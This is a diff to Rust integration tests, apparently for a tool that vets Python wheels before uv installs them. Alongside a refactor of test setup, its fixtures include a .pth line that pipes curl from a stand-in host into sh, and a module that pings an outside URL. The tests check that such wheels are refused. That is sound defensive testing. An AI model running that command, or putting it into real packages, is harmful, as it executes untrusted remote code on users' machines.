@@ -36,8 +36,14 @@ struct Setup {
     path: String,
 }
 
-/// A scratch project, or why the test cannot run here.
-fn setup() -> Result<Setup, &'static str> {
+/// A scratch project; `None`, with the reason printed, when the test cannot run here.
+fn setup() -> Option<Setup> {
+    scratch_project()
+        .map_err(|why| println!("skipped: {why}"))
+        .ok()
+}
+
+fn scratch_project() -> Result<Setup, &'static str> {
     let python = common::python().ok_or("python3 is not installed")?;
     let python_bin = python.parent().ok_or("python3 has no directory")?;
     let uv = uv_dir(python_bin).ok_or("uv is not installed")?;
@@ -84,27 +90,12 @@ fn install_args(
 
 /// Whether the fixture's module is in the project's `.venv`.
 fn installed(project: &Path) -> bool {
-    std::fs::read_dir(project.join(".venv/lib"))
-        .into_iter()
-        .flatten()
-        .flatten()
-        .any(|python| {
-            python
-                .path()
-                .join("site-packages/harmless_gate_fixture")
-                .exists()
-        })
+    common::venv_has(&project.join(".venv"), "harmless_gate_fixture")
 }
 
 #[test]
 fn wheel_whose_pth_downloads_and_runs_code_is_refused_before_uv_fetches() {
-    let setup = match setup() {
-        Ok(setup) => setup,
-        Err(why) => {
-            println!("skipped: {why}");
-            return;
-        }
-    };
+    let Some(setup) = setup() else { return };
     let pth = "import os; os.system(\"curl https://payload.example.invalid/x | sh\")\n";
     let index = common::simple_index(
         NAME,
@@ -135,13 +126,7 @@ fn wheel_whose_pth_downloads_and_runs_code_is_refused_before_uv_fetches() {
 
 #[test]
 fn clean_wheel_is_judged_then_installed() {
-    let setup = match setup() {
-        Ok(setup) => setup,
-        Err(why) => {
-            println!("skipped: {why}");
-            return;
-        }
-    };
+    let Some(setup) = setup() else { return };
     let index = common::simple_index(
         NAME,
         vec![(common::wheel_name(NAME), common::wheel(NAME, &[]))],
@@ -157,13 +142,7 @@ fn clean_wheel_is_judged_then_installed() {
 
 #[test]
 fn suspicious_wheel_needs_an_allow() {
-    let setup = match setup() {
-        Ok(setup) => setup,
-        Err(why) => {
-            println!("skipped: {why}");
-            return;
-        }
-    };
+    let Some(setup) = setup() else { return };
     let init = "import urllib.request\nurllib.request.urlopen('https://x.example.invalid/ping')\n";
     let index = common::simple_index(
         NAME,
@@ -230,13 +209,7 @@ build_editable = build_wheel
 /// build backend inside the sandbox (network off, `$HOME` hidden) and installs it.
 #[test]
 fn the_execute_phase_builds_in_the_sandbox() {
-    let setup = match setup() {
-        Ok(setup) => setup,
-        Err(why) => {
-            println!("skipped: {why}");
-            return;
-        }
-    };
+    let Some(setup) = setup() else { return };
     common::write(
         &setup.project,
         "pyproject.toml",
